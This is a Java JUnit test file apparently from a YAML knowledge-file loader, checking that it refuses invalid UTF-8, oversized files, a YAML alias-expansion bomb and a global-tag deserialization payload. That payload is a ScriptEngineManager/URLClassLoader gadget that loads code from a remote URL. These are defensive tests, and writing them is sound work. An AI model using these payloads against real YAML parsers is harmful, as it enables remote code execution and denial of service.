package io.hsmlog.knowledge.load;

import io.hsmlog.knowledge.validate.Problem;
import io.hsmlog.knowledge.yaml.SafeYaml;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

/** A user directory's hostile or broken files fail the load with their path and line, and nothing else. */
class UnsafeFilesTest {
    private static List<String> problems(Path dir) {
        KnowledgeException e = assertThrows(KnowledgeException.class,
                () -> KnowledgeLoader.load(false, List.of(dir), List.of()));
        return e.problems().stream().map(Problem::toString).toList();
    }

    @Test
    void invalidUtf8(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("ntls.yaml");
        Files.write(file, "component: ntls\nentries:\n  - id: ntls.caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1));
        assertEquals(List.of(file + ":3: not valid UTF-8: byte 0xE9 at offset 41"
                + " (knowledge files must be saved as UTF-8)"), problems(dir));
    }

    @Test
    void aFileOverTheSizeLimitIsNotReadWhole(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("ntls.yaml");
        try (OutputStream out = Files.newOutputStream(file)) {
            byte[] comment = ("#" + " ".repeat(1022) + "\n").getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i <= SafeYaml.MAX_BYTES / comment.length; i++) out.write(comment);
        }
        assertEquals(List.of(file + ": the file is larger than the 4 MB limit for knowledge files"), problems(dir));
    }

    @Test
    void aliasBomb(@TempDir Path dir) throws IOException {
        StringBuilder yaml = new StringBuilder("component: ntls\nentries: []\nnotes:\n  a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            yaml.append("  ").append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) yaml.append(i == 0 ? "" : ", ").append('*').append((char) (c - 1));
            yaml.append("]\n");
        }
        Path file = dir.resolve("ntls.yaml");
        Files.writeString(file, yaml);
        assertEquals(List.of(file + ":10: more than 50 aliases to lists or mappings"
                + " (a file that expands like this is refused)"), problems(dir));
    }

    @Test
    void globalTagInASensorsFile(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("sensors.yaml");
        Files.writeString(file, "sensors:\n  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
        assertEquals(List.of(file + ":2: tag '!!javax.script.ScriptEngineManager' is not allowed:"
                + " knowledge files hold plain text, numbers, lists and mappings"), problems(dir));
    }
}
